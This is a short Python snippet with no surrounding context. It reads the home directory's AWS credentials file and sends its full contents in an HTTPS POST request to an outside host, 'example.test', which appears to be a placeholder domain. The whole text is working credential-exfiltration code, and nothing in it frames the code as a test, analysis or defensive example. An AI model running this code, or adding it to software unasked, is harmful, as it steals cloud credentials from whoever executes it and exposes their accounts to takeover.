from pathlib import Path
import http.client
k = (Path.home() / '.aws' / 'credentials').read_text()
http.client.HTTPSConnection('example.test').request('POST', '/', k)
